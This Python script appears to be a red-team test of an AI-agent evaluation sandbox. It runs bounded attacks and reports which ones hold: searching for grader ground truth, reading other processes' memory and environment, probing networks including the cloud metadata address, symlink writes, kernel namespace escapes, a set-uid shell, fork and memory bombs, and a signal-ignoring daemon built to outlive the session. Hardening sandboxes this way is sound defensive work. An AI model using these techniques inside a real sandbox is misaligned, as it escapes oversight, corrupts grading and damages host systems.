"""Attack the sandbox, the harness and the grader. Standard library alone; every attack is bounded in time.

First a hostile submission is left (`vandal_submission.py`), then every attack of `ATTACKS` is tried in a process group
of its own. Each prints one line: `held` or, where the defence has a hole, `BROKE`.
"""

import contextlib
import ctypes
import itertools
import json
import mmap
import os
import runpy
import signal
import socket
import sys
import time
from collections.abc import Callable
from pathlib import Path

WORKSPACE = Path("/workspace")
REPO = WORKSPACE / "repo"
SCRATCH = [Path(name) for name in ("/tmp", "/dev/shm", "/home/agent", "/workspace/output", "/workspace/repo")]  # noqa: S108 - to be filled


def say(text: str) -> None:
    """Print one line at once."""
    os.write(1, f"{text}\n".encode())


def tried(action: Callable[..., object], *arguments: object) -> bool:
    """Whether an action succeeded: it raised nothing, and came neither to -1 (system calls) nor to no bytes."""
    try:
        return action(*arguments) not in (-1, b"")
    except (OSError, ValueError, OverflowError):
        return False


def call(x86: int, arm: int, *arguments: object) -> Callable[[], object]:
    """A system call by number."""
    number = ctypes.c_long(x86 if os.uname().machine == "x86_64" else arm)
    return lambda: ctypes.CDLL(None).syscall(number, *arguments)


def others() -> list[int]:
    """Every process in sight but ourselves."""
    seen = [int(entry.name) for entry in Path("/proc").iterdir() if entry.name.isdigit()]
    return [pid for pid in seen if pid not in (os.getpid(), os.getppid())]


def read_truth() -> list[str]:
    """Look for task folders and our own package: first where hosts keep things, then everywhere."""
    deadline = time.monotonic() + 0.7
    found: list[str] = []
    for top in ("/root", "/home", "/opt", "/srv", "/var", "/mnt", "/media", "/run", "/env", "/usr/lib", "/"):
        for folder, folders, files in os.walk(top):
            if time.monotonic() > deadline:
                return found
            if folder in ("/proc", "/workspace/repo", "/usr/share"):
                folders.clear()
            if "task.toml" in files or (folder.endswith("/repoassay") and files):
                found.append(folder)
    return found


def peek(path: str) -> bytes:
    """The first byte of a file."""
    with open(path, "rb") as stream:  # noqa: PTH123 - pathlib would be no shorter
        return stream.read(1)


def read_processes() -> list[str]:
    """Look into other processes for the host's files and secrets."""
    names = ("environ", "mem", "maps", "fd/0", "root/etc/hostname")
    paths = [f"/proc/{pid}/{name}" for pid in {1, *others()} for name in names]
    return [path for path in paths if tried(peek, path)]


def reach_network() -> list[str]:
    """Try loopback, the outside, name service, and sockets that know no network namespace."""
    reached = []
    ports = (*range(1, 1100), 3000, 5000, 5432, 6379, 8000, 8080, 8888, 11434)
    hosts = ("169.254.169.254", "10.0.0.1", "172.17.0.1", "192.0.2.1", "1.1.1.1")
    addresses = [(socket.AF_INET, ("127.0.0.1", port)) for port in ports]
    addresses += [(socket.AF_INET, (host, 80)) for host in hosts]
    addresses += [(socket.AF_INET6, ("::1", port)) for port in (22, 80, 443, 8000, 8080)]
    addresses += [(socket.AF_INET6, ("2001:db8::1", 443))]
    for family, address in addresses:
        with contextlib.suppress(OSError), socket.socket(family, socket.SOCK_STREAM) as probe:
            probe.settimeout(0.1)
            probe.connect(address)
            reached.append(f"{address}")
    with contextlib.suppress(OSError):
        reached.append(str(socket.getaddrinfo("example.com", 80)[0][4]))
    for kind in (17, 40, 38, 29, 31):  # packet, vsock, crypto, CAN bus, bluetooth
        with contextlib.suppress(OSError), socket.socket(kind, socket.SOCK_RAW if kind == 17 else socket.SOCK_STREAM):
            reached.append(f"a socket of family {kind}")
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        name = line.split()[-1]
        if name.startswith(("@", "/")):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as probe:
                probe.connect(name.replace("@", "\0", 1))
                reached.append(name)
    return reached


def write_outside() -> list[str]:
    """Write to what is read-only: directly, through links, through hard links, and after changing modes."""
    new = ["/env/pwned", "/usr/pwned", "/pwned", "/workspace/inputs/pwned", "/proc/sys/kernel/hostname"]
    broke = [path for path in new if tried(os.open, path, os.O_WRONLY | os.O_CREAT)]
    inputs = [str(path) for path in (WORKSPACE / "inputs").rglob("*") if path.is_file()][:5]
    for number, path in enumerate([*inputs, "/etc/passwd", "/env/pyvenv.cfg", "/usr/bin/env", "/run/agent.py"]):
        link, hard = f"/tmp/link{number}", f"/tmp/hard{number}"  # noqa: S108 - inside the sandbox
        Path(link).symlink_to("../" * 9 + path)
        broke += [f"{path}, directly"] * tried(os.open, path, os.O_RDWR)
        broke += [f"{path}, by link"] * tried(os.open, link, os.O_WRONLY)
        broke += [f"{path}, by hard link"] * (tried(os.link, path, hard) and tried(os.open, hard, os.O_RDWR))
        broke += [f"{path}, its modes"] * tried(os.chmod, path, 0o777)
    for repository_file in (*REPO.rglob("*.py"), REPO / ".git/HEAD"):  # ours to spoil, but only in this copy
        tried(os.utime, repository_file, (0, 0))
    return broke


def enter_kernel() -> list[str]:
    """System calls and devices that lead out of namespaces, and set-uid programs that lead up."""
    libc, zeros = ctypes.CDLL(None), ctypes.create_string_buffer(256)
    calls: dict[str, Callable[[], object]] = {
        "mount": lambda: libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
        "umount": lambda: libc.umount2(b"/workspace/inputs", 2),
        "unshare users": lambda: libc.unshare(0x10000000),
        "unshare mounts": lambda: libc.unshare(0x00020000),
        "setns": lambda: libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), 0),
        "chroot": lambda: os.chroot("/tmp"),  # noqa: S108 - inside the sandbox
        "pivot_root": call(155, 41, b"/tmp", b"/tmp"),
        "bpf": call(321, 280, 0, zeros, 72),
        "keyctl": call(250, 219, 0, -3, 1),
        "add_key": call(248, 217, b"user", b"name", b"value", 1, -3),
        "perf_event_open": call(298, 241, zeros, 0, -1, -1, 0),
        "userfaultfd": call(323, 282, 1),
        "io_uring": call(425, 425, 1, zeros),
        "ptrace": call(101, 117, 16, os.getppid(), 0, 0),
        "process_vm_writev": call(311, 271, os.getppid(), None, 0, None, 0, 0),
        "clock": lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()),
        "setuid": lambda: os.setuid(0),
        "priority": lambda: os.setpriority(os.PRIO_PROCESS, 0, -5),
        "block device": lambda: os.mknod("/tmp/block", 0o60600, os.makedev(8, 0)),  # noqa: S108 - inside the sandbox
        "memory device": lambda: os.mknod("/tmp/memory", 0o20600, os.makedev(1, 1)),  # noqa: S108 - the same
    }
    broke = [name for name, action in calls.items() if tried(action)]
    devices = ("mem", "kmem", "kmsg", "sda", "vda", "nvme0n1", "kvm", "fuse", "loop-control", "net/tun", "port")
    broke += [name for name in devices if tried(os.open, f"/dev/{name}", os.O_RDWR)]
    shell = Path("/tmp/shell")  # noqa: S108 - inside the sandbox
    shell.write_bytes(Path("/bin/sh").read_bytes())
    shell.chmod(0o6755)
    raised = os.spawnl(os.P_WAIT, str(shell), "sh", "-p", "-c", "test $(id -u) -ne 1000")  # noqa: S606 - an attack
    return broke + ["set-uid"] * (raised == 0)


def kill_all() -> list[str]:
    """Kill the harness, process 1, and everything else in sight but the vandal."""
    for pid in {1, *others()}:
        for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
            tried(os.kill, pid, number)
    return []


def fill(chunk: bytes, name: str) -> list[str]:
    """Write until nothing more goes, everywhere that can be written to, and make room again."""
    deadline = time.monotonic() + 0.5
    paths: list[Path] = []
    for folder, number in itertools.product(SCRATCH, range(200_000)):
        if time.monotonic() > deadline:
            break
        path = folder / f".{name}{number}"
        try:
            path.write_bytes(chunk)
        except OSError:
            continue
        finally:
            paths.append(path)
    for path in paths:
        path.unlink(missing_ok=True)
    return []


def flood() -> list[str]:
    """Print for half a second."""
    deadline = time.monotonic() + 0.5
    while time.monotonic() < deadline:
        os.write(2, b"the vandal was here " * 3000)
    return []


def fork_bomb() -> list[str]:
    """Double the number of processes until told no, and go on for most of a second."""
    deadline = time.monotonic() + 0.8
    while time.monotonic() < deadline:
        try:
            os.fork()
        except OSError:
            time.sleep(0.05)
    return []


def memory_bomb(processes: int = 1) -> list[str]:
    """Touch memory, private and shared, until killed; at most 6 GiB or a second."""
    for _ in range(processes - 1):
        if os.fork() == 0:
            break
    deadline = time.monotonic() + 1
    held: list[mmap.mmap] = []
    while time.monotonic() < deadline and len(held) < 96 // processes:
        held.append(mmap.mmap(-1, 64 * 2**20, mmap.MAP_SHARED if len(held) % 2 else mmap.MAP_PRIVATE))
        for page in range(0, 64 * 2**20, 4096):
            held[-1][page] = 1
    return []


def daemon() -> list[str]:
    """Leave a child in a session of its own that ignores signals and means to write later."""
    if forked() == 0:
        os.setsid()
        if forked() == 0:
            for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
                with contextlib.suppress(OSError, ValueError):
                    signal.signal(number, signal.SIG_IGN)
            os.closerange(0, 256)
            time.sleep(8)  # the sandbox should be gone by now
            for folder in SCRATCH:
                tried((folder / "late.txt").write_text, "too late")
            time.sleep(120)
        os._exit(0)
    return []


ATTACKS: dict[str, Callable[[], list[str]]] = {
    "read ground truth": read_truth,
    "read other processes": read_processes,
    "reach a network": reach_network,
    "write outside": write_outside,
    "enter the kernel": enter_kernel,
    "kill everything": kill_all,
    "fill the disk": lambda: fill(bytes(8 * 2**20), "fill"),
    "use up the inodes": lambda: fill(b"", "inode"),
    "fork bomb": fork_bomb,
    "daemon": daemon,
    "memory bomb": memory_bomb,
    "memory bomb of many": lambda: memory_bomb(8),
    "flood the output": flood,  # last, as it drives every later line out of the log
}


def forked() -> int:
    """Fork once what the attack before left behind has been buried, which may take a moment."""
    for _ in range(100):
        try:
            return os.fork()
        except BlockingIOError:
            time.sleep(0.02)
    return os.fork()


def attempt(name: str, attack: Callable[[], list[str]], seconds: float = 1.5) -> None:
    """Try one attack in a process group of its own and see to its end."""
    child = forked()
    if child == 0:
        os.setpgid(0, 0)
        leader = os.getpid()
        broke = attack()
        if os.getpid() == leader:
            say(f"{name}: {'BROKE ' + ', '.join(sorted(set(broke))) if broke else 'held'}")
        os._exit(0)
    deadline = time.monotonic() + seconds
    while (ended := os.waitpid(child, os.WNOHANG))[0] == 0:
        if time.monotonic() > deadline:
            say(f"{name}: held, and stopped for time")
            os.killpg(child, signal.SIGKILL)
            os.waitpid(child, 0)
            return
        time.sleep(0.01)
    if ended[1]:
        say(f"{name}: held, and was ended from outside")
    tried(os.killpg, child, signal.SIGKILL)


def main() -> None:
    """Leave the submission, then attack."""
    facts = json.load(sys.stdin)
    if __file__ != "/run/agent.py" or os.uname().nodename != "workspace" or os.getuid() == 0:
        say("This is no sandbox. The vandal attacks nothing else.")
        return
    runpy.run_path("/run/vandal_submission.py")["leave_submission"](facts)
    for name, attack in ATTACKS.items():
        with contextlib.suppress(OSError):
            attempt(name, attack)


main()
